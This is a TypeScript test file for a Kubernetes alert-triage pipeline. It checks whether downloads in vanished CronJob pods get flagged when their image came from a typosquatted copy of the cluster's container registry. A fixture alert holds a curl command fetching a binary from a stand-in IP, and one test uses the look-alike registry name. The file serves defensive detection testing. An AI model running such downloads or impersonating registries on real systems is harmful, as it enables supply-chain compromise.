/**
 * A CronJob planted through GitOps runs an image from a look-alike of the cluster's registry; its older Job pods are gone
 * from the snapshot (history limit), known only from their creation in the audit log. A download in such a pod, a child
 * of the Job's own command, is not that Job's baseline: the recorded image comes from the impostor registry. Traps: the
 * same gone Job pod pulling from the cluster's real registry keeps its baseline, and so does a registry nobody imitates.
 */
import { describe, expect, it } from 'vitest';
import { summarizePodSpec } from '../../../src/cluster/audit.js';
import { buildIndex } from '../../../src/cluster/index.js';
import type { AuditActivity } from '../../../src/cluster/model.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, node, owner, pod, snapshot } from '../../support/cluster.js';

const N = 'aks-workers-38104822-vmss000001';
const T = (hms: string) => `2026-12-03T${hms}.000Z`;
const OWN = 'payrollacr.azurecr.io';
const RUN = ['/bin/sh', '/opt/job/run.sh'];
const live = (name: string, image: string) =>
  pod(name, { namespace: 'payroll', node: N, ip: `10.244.3.${10 + name.length}`, owner: { kind: 'ReplicaSet', name: name.replace(/-[a-z0-9]+$/, '') }, containers: [{ name: 'app', image, command: ['/app/run'] }] });

function jobPod(name: string, image: string): AuditActivity {
  const body = {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name, namespace: 'payroll', ownerReferences: [{ apiVersion: 'batch/v1', kind: 'Job', name: name.replace(/-[a-z0-9]+$/, ''), uid: 'u', controller: true }] },
    spec: { nodeName: N, restartPolicy: 'OnFailure', containers: [{ name: 'job', image, command: RUN }] },
  };
  return { time: T('11:30:01'), user: 'system:serviceaccount:kube-system:job-controller', groups: [], verb: 'create', resource: 'pods', namespace: 'payroll', name, sourceIps: ['172.31.1.5'], code: 201, podSpec: summarizePodSpec(body) };
}

function verdictFor(gone: AuditActivity, extraImage?: string) {
  const s = snapshot([
    node(N, '10.224.0.7'),
    owner('ReplicaSet', 'payroll-api-6d9f7c8b5', 'payroll'),
    owner('ReplicaSet', 'payroll-ui-58c4d9f7b6', 'payroll'),
    live('payroll-api-6d9f7c8b5-x2k9p', `${OWN}/payroll/api:4.1.0`),
    live('payroll-api-6d9f7c8b5-q8w3e', `${OWN}/payroll/api:4.1.0`),
    live('payroll-ui-58c4d9f7b6-z7x4c', extraImage ?? `${OWN}/payroll/ui:2.0.3`),
  ]);
  s.auditActivities = [gone];
  const a = alert({
    host: N,
    time: T('11:30:13'),
    title: 'Detected suspicious file download',
    container: { namespace: 'payroll', pod: gone.name, name: 'job' },
    process: { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s -o /tmp/report.bin https://203.0.113.50/report.bin' },
    ancestors: [{ name: 'sh', commandLine: RUN.join(' ') }],
  });
  return triageAlert(a, { index: buildIndex([s]) }).verdict;
}

describe('gone Job pods from a look-alike registry', () => {
  it('a download under the Job command of a gone pod whose image came from a look-alike of the cluster registry is an attack', () => {
    const v = verdictFor(jobPod('payroll-sync-29938290-gsgmp', 'payro11acr.azurecr.io/payroll/sync:1.4.2'));
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(v.reasons.some((r) => r.rule === 'registry-lookalike' && /gone from the snapshot/.test(r.message))).toBe(true);
  });
  it('trap: the same gone Job pod pulling from the real registry keeps its baseline', () => {
    const v = verdictFor(jobPod('payroll-sync-29938290-gsgmp', `${OWN}/payroll/sync:1.4.2`));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a private registry no other registry of the cluster resembles is not an impostor', () => {
    const v = verdictFor(jobPod('payroll-sync-29938290-gsgmp', 'harbor.corp.example.net/payroll/sync:1.4.2'));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
});
